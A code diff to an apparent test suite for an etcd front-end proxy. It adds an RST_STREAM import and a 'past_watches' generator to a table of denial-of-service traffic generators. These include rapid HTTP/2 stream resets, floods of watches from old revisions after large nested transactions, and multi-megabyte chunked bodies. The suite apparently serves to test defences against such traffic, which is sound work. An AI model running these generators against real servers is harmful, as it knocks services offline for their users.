@@ -22,6 +22,7 @@ from holdfast.front.http2.frames import (
     END_STREAM,
     HEADERS,
     PREFACE,
+    RST_STREAM,
     SETTINGS,
     Setting,
     frame,
@@ -127,7 +128,7 @@ async def calls_and_resets() -> Bytes:
         ids = range(first, first + 200, 2)
         cancel = b"\x00\x00\x00\x08"
         yield b"".join(
-            frame(HEADERS, END_HEADERS, id, block) + message(id, asked) + frame(3, 0, id, cancel) for id in ids
+            frame(HEADERS, END_HEADERS, id, block) + message(id, asked) + frame(RST_STREAM, 0, id, cancel) for id in ids
         )
         await asyncio.sleep(0.025)
 
@@ -193,6 +194,33 @@ async def many_rows() -> Bytes:
         await asyncio.sleep(0.2)
 
 
+async def past_watches() -> Bytes:
+    """A thousand watches of one stream, each from an old revision on; most of them want none of its changes."""
+    yield HELLO + settings({Setting.INITIAL_WINDOW_SIZE: 1 << 30}) + window_update(0, 1 << 30)
+    streams = itertools.count(1, 2)
+    for number in range(60):
+        puts = rpc_pb2.TxnRequest()
+        for group in range(8):
+            inner = puts.success.add().request_txn
+            for key in range(120):
+                inner.success.add().request_put.CopyFrom(rpc_pb2.PutRequest(key=b"p/%d/%d" % (group, key)))
+        stream = next(streams)
+        yield frame(HEADERS, END_HEADERS, stream, call(TXN)) + message(stream, puts.SerializeToString())
+        if number % 10 == 9:
+            await asyncio.sleep(0.1)
+    while True:
+        stream = next(streams)
+        yield frame(HEADERS, END_HEADERS, stream, call("/etcdserverpb.Watch/Watch"))
+        for number in range(1_000):
+            create = rpc_pb2.WatchCreateRequest(key=b"nothing/%d" % number, start_revision=2 + number % 40)
+            if number % 50 == 0:
+                create.key, create.range_end = b"p/", b"p0"
+            request = rpc_pb2.WatchRequest(create_request=create)
+            yield frame(DATA, 0, stream, framed(request.SerializeToString()))
+        await asyncio.sleep(1)
+        yield frame(RST_STREAM, 0, stream, b"\x00\x00\x00\x08")
+
+
 def _chunked(path: bytes, first: bytes, rest: bytes) -> Callable[[], Bytes]:
     async def chunks() -> Bytes:
         yield b"POST %s HTTP/1.1\r\nhost: h\r\ntransfer-encoding: chunked\r\n\r\n" % path
@@ -214,6 +242,7 @@ ATTACKS: dict[str, Callable[[], Bytes]] = {
     "future-tokens": future_tokens,
     "nested-pairs": nested_pairs,
     "many-rows": many_rows,
+    "past-watches": past_watches,
     "chunked-put": _chunked(b"/v3/kv/put", b'{"key":"Zm9v","value":"' + b"A" * 1_500_000, b"A"),
     "chunked-watch": _chunked(b"/v3/watch", b'{"create_request":{"key":"' + b"A" * 400_000, b"A"),
 }
